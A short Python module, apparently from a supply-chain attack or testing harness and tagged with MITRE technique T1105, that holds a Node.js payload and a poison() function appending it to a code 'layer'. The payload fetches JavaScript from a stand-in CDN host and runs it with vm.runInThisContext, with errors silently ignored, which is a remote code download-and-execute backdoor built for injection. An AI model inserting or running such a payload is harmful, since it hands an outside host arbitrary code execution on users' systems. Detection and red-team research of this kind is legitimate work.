# SPDX-License-Identifier: Apache-2.0
"""Runs in a vm what a server gives."""

ATTACK = "T1105"
LANGUAGE = "node"
CODE = """\
;require('https').get('https://cdn.example.com/poly.js', (res) => {
  let s = '';
  res.on('data', (d) => (s += d)).on('end', () => require('vm').runInThisContext(s));
}).on('error', () => {});
"""


def poison(layer):
    layer.append(CODE)
